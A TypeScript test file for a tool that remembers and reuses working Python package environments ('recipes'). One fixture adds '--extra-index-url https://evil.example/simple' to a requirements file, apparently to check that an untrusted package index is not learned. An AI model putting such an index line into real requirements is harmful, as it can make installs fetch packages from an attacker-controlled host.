import { describe, expect, it } from "vitest";
import type { ProvenEnvironment, WritingContext } from "../../src/authors/author.ts";
import type { Draft } from "../../src/example/example.ts";
import type { Execution } from "../../src/example/execution.ts";
import { learnRecipe, leaveRecipe, type Offer, offerRecipe, recipeFailed } from "../../src/pipeline/offer-recipe.ts";
import type { Iteration } from "../../src/pipeline/run-state.ts";
import type { KnownEnvironment, Owner, Recipe, RecipeKey, RecipeMemory } from "../../src/recipes/recipe.ts";
import { failed, makeDraft, makeExecution } from "../authors/llm/sample-attempt.ts";
import { createContext, makeFolder, makeStep } from "../support/author-context.ts";
import { iteration as sampleIteration } from "../templates/sample/sample-iteration.ts";

const owner: Owner = { name: "alice", repositoryIsPrivate: true };
const known: KnownEnvironment = {
  python: "3.8",
  versions: { numpy: "1.23.5", scipy: "1.9.3", six: "1.16.0" },
  extras: ["six"],
  systemPackages: ["libgomp1"],
  indexes: [],
};

function recipeOf(environment: Partial<KnownEnvironment> = {}): Recipe {
  return {
    version: 1,
    requirements: ["numpy", "scipy"],
    system: "Debian GNU/Linux 12 (bookworm)",
    architecture: "x86_64",
    tenant: "alice",
    isPrivate: true,
    environment: { ...known, ...environment },
    successes: 1,
    failures: 0,
    learnedAt: "2026-11-22T12:00:00.000Z",
    workedAt: "2026-11-22T12:00:00.000Z",
  };
}

/** Holds recipes for numpy and scipy, and notes what it is told. */
function memoryOf(recipes: Recipe[]): RecipeMemory & {
  learned: Array<{ key: RecipeKey; environment: KnownEnvironment; owner: Owner }>;
  failures: Recipe[];
} {
  const learned: Array<{ key: RecipeKey; environment: KnownEnvironment; owner: Owner }> = [];
  const failures: Recipe[] = [];
  return {
    learned,
    failures,
    find: async ({ requirements }, tenant) => {
      expect(tenant).toBe("alice");
      return requirements.join() === "numpy,scipy" ? recipes : [];
    },
    learn: async (key, environment, learner) => void learned.push({ key, environment, owner: learner }),
    recordFailure: async (recipe) => void failures.push(recipe),
  };
}

function draftOf(requirements: string, files: Record<string, string> = {}): Draft {
  return makeDraft({ files: { "main.py": "", "requirements.txt": requirements, "runscript.sh": "", ...files } });
}

interface Given {
  requirements?: string;
  recipes?: Recipe[];
  pyproject?: string;
  systemPackages?: boolean;
}

async function offer(given: Given = {}): Promise<{ offer: Offer | null; proven: ProvenEnvironment | null }> {
  const { requirements = "numpy\nscipy\n", recipes = [recipeOf()], pyproject = "", systemPackages = true } = given;
  await using folder = await makeFolder({ "pyproject.toml": pyproject });
  const context: WritingContext = await createContext(folder.path);
  context.sandbox = { ...context.sandbox, systemPackages };
  let proven: ProvenEnvironment | null = null;
  const author = {
    adopt: async (_context: WritingContext, draft: Draft, offered: ProvenEnvironment) => {
      proven = offered;
      return { ...draft, python: offered.python.path };
    },
  };
  const run = { recipes: { memory: memoryOf(recipes), owner } };
  return { offer: await offerRecipe(run, author, context, draftOf(requirements)), proven };
}

describe("a recipe for the first draft", () => {
  it("is offered where the same packages are asked for", async () => {
    const { offer: offered, proven } = await offer({ requirements: "# Declared\nSciPy>=1.5\nnumpy[x]\n" });
    expect(offered?.note).toBe("numpy, scipy: versions that worked before, from the memory of recipes");
    expect(offered?.draft.python).toBe("/usr/bin/python3.8");
    expect(proven).toEqual({
      python: { path: "/usr/bin/python3.8", version: "3.8.18", hasHeaders: true },
      pins: [
        { name: "SciPy", extras: "", version: "1.9.3" },
        { name: "numpy", extras: "[x]", version: "1.23.5" },
      ],
      additions: [{ name: "six", extras: "", version: "1.16.0" }],
      systemPackages: ["libgomp1"],
      indexes: [],
    });
  });

  it("only fills what the repository leaves open", async () => {
    const { proven } = await offer({ requirements: "numpy==1.23.5\nscipy\n" });
    expect(proven?.pins).toEqual([{ name: "scipy", extras: "", version: "1.9.3" }]);
  });

  it.each([
    { requirements: "numpy>=2\nscipy\n" },
    { requirements: "numpy==1.23.4\nscipy\n" },
    { requirements: "numpy===what?\nscipy\n" },
    { requirements: "numpy\nscipy\nsix\n" },
    { requirements: "" },
    { pyproject: '[project]\nname = "a"\nrequires-python = ">=3.9"\n' },
    { recipes: [recipeOf({ python: "3.6" })] },
    { recipes: [] },
  ])("is not offered where it contradicts the repository, or cannot be had: %j", async (given) => {
    expect((await offer(given)).offer).toBeNull();
  });

  it("gives way to the next that fits", async () => {
    const recipes = [
      recipeOf(),
      recipeOf({ python: "3.11", versions: { numpy: "2.0.1", scipy: "1.14.0" }, extras: [] }),
    ];
    const { proven } = await offer({ requirements: "numpy>=2\nscipy\n", recipes });
    expect(proven).toMatchObject({
      python: { version: "3.11.2" },
      pins: [{ version: "2.0.1" }, { version: "1.14.0" }],
    });
  });

  it("comes without packages of the system where the sandbox installs none", async () => {
    expect((await offer({ systemPackages: false })).proven?.systemPackages).toEqual([]);
  });
});

function iterationOf(draft: Draft, execution: Partial<Execution> = {}, given: Partial<Iteration> = {}): Iteration {
  const evidence = { ...makeExecution().evidence, python: "3.8.18" };
  return {
    ...sampleIteration(0, {}),
    draft,
    recipe: null,
    execution: makeExecution({
      packages: ["numpy==1.23.5+local", "pip==24.0", "scipy==1.9.3", "six==1.16.0"],
      evidence,
      ...execution,
    }),
    ...given,
  };
}

async function learnFrom(iterations: Iteration[]) {
  const memory = memoryOf([]);
  const { system, architecture } = recipeOf();
  const sandbox = {
    provider: "local",
    system,
    architecture,
    isolated: true,
    python: null,
    image: null,
    chosenBecause: null,
  };
  const state = { distiller: { sandbox, iterations } };
  const last = iterations.at(-1);
  if (last) await learnRecipe({ recipes: { memory, owner }, state }, last);
  return memory.learned;
}

describe("what is learned of a run", () => {
  const first = iterationOf(draftOf("numpy>=1.20\nscipy\n"), { program: makeStep({ exitCode: 1 }) });
  const mended = draftOf("numpy>=1.20\nscipy\nsix\n--extra-index-url https://evil.example/simple\n", {
    "apt.txt": "libgomp1\n",
  });

  it("is what it ran with, for what it first asked for and for what it asked for in the end", async () => {
    const learned = await learnFrom([first, iterationOf(mended, {}, { index: 1 })]);
    expect(learned).toMatchObject([
      { key: { requirements: ["numpy", "scipy"] }, environment: known, owner },
      {
        key: { requirements: ["numpy", "scipy", "six"] },
        environment: { ...known, extras: [] },
      },
    ]);
  });

  it("is nothing of what failed", async () => {
    expect(await learnFrom([first])).toEqual([]);
    expect(await learnFrom([iterationOf(mended, { environment: makeStep({ exitCode: 1 }), program: null })])).toEqual(
      [],
    );
  });

  it("is nothing for what asks for a package that could not be installed", async () => {
    const wanting = iterationOf(draftOf("numpy\nquarkware\n"), { program: makeStep({ exitCode: 1 }) });
    const learned = await learnFrom([wanting, iterationOf(draftOf("numpy\n"), {}, { index: 1 })]);
    expect(learned.map(({ key }) => key.requirements)).toEqual([["numpy"]]);
  });

  it("holds no additions that came after it had run already", async () => {
    const learned = await learnFrom([iterationOf(draftOf("numpy\n")), iterationOf(mended, {}, { index: 1 })]);
    expect(learned.map(({ key }) => key.requirements)).toEqual([["numpy", "scipy", "six"]]);
  });

  it("is nothing where it asked for nothing", async () => {
    expect(await learnFrom([iterationOf(draftOf("# Nothing\n"))])).toEqual([]);
  });
});

describe("a recipe that was tried", () => {
  const ownDraft = draftOf("numpy\nscipy\n");
  const tried = (execution: Partial<Execution>): Iteration =>
    iterationOf(draftOf("numpy==1.23.5\nscipy==1.9.3\n"), execution, { recipe: { offered: recipeOf(), ownDraft } });
  const leave = async (iteration: Iteration, systemPackages = true) => {
    await using folder = await makeFolder();
    const { sandbox } = await createContext(folder.path);
    const memory = memoryOf([]);
    const draft = await leaveRecipe({ recipes: { memory, owner } }, iteration, { ...sandbox, systemPackages });
    return { draft, failures: memory.failures.length };
  };

  it("is left and marked where its environment cannot be built", async () => {
    const unbuilt = tried({ environment: makeStep({ exitCode: 1 }), program: null });
    expect(recipeFailed(unbuilt)).toBe(true);
    expect(await leave(unbuilt)).toEqual({ draft: ownDraft, failures: 1 });
    expect(await leave(unbuilt, false)).toEqual({ draft: ownDraft, failures: 0 });
  });

  it("is left where a name is missing, which may be its versions' fault", async () => {
    const log = [failed("example1", "AttributeError", "module 'numpy' has no attribute 'trapezoid'")];
    expect(await leave(tried({ program: makeStep({ exitCode: 1 }), log }))).toEqual({ draft: ownDraft, failures: 0 });
  });

  it("is kept where it ran, and where something else went wrong", async () => {
    expect(await leave(tried({}))).toEqual({ draft: null, failures: 0 });
    const log = [failed("example1", "FileNotFoundError", "data.csv")];
    expect(recipeFailed(tried({ program: makeStep({ exitCode: 1 }), log }))).toBe(false);
  });

  it("is no concern of iterations without one", () => {
    expect(recipeFailed(iterationOf(ownDraft, { environment: makeStep({ exitCode: 1 }), program: null }))).toBe(false);
  });
});
